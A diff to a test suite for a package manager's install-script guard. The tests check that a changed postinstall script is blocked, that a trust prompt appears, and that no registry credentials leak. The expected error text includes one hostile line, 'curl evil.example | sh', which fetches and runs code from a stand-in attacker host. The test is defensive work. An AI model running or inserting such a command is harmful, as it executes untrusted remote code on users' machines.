@@ -249,14 +249,14 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
         expect((await install(number)).status).toBe(0);
         expect(ran()).toBe(true);
       }
-      const published = "the registry published updated 1.0.2 on 2021-03-04 (";
+      const published = String.raw`the registry published updated 1\.0\.2 on 2021-03-04 \(\d{4} days ago\)`;
       const stopped = await install("1.0.2");
       expect([stopped.status, ran()]).toEqual([1, false]);
       expect(stopped.stderr).toContain(
         "error: install scripts of updated have changed from 1.0.0 to 1.0.2, so they were not run\n" +
           "- postinstall: touch ran\n+ postinstall: curl evil.example | sh; touch ran\nhint: ",
       );
-      expect(stopped.stderr).toContain(`\n${published}`);
+      expect(stopped.stderr).toMatch(new RegExp(`\n${published}`));
       const asked = await run(["trust"], { XDG_STATE_HOME: state });
       expect([asked.status, asked.stderr]).toEqual([
         1,
@@ -264,7 +264,7 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
           "install scripts of updated have changed from 1.0.0 to 1.0.2; - postinstall",
         ) as string,
       ]);
-      expect(asked.stderr).toContain(`; ${published}`);
+      expect(asked.stderr).toMatch(new RegExp(`; ${published}`));
       // ~/.npmrc has a token for another registry.
       expect(registry.credentials.join("")).toBe("");
       // An earlier version, whose scripts are known.
@@ -286,6 +286,8 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
       terminal.type("y\r");
       await terminal.awaitOutput("allowed: install scripts of updated 1.0.2");
       expect(await terminal.awaitExit()).toBe(0);
+      const again = await run(["trust"], { XDG_STATE_HOME: state });
+      expect(again.stdout + again.stderr).not.toContain("updated");
       expect([(await install("1.0.2")).status, ran()]).toEqual([0, true]);
     });
   });
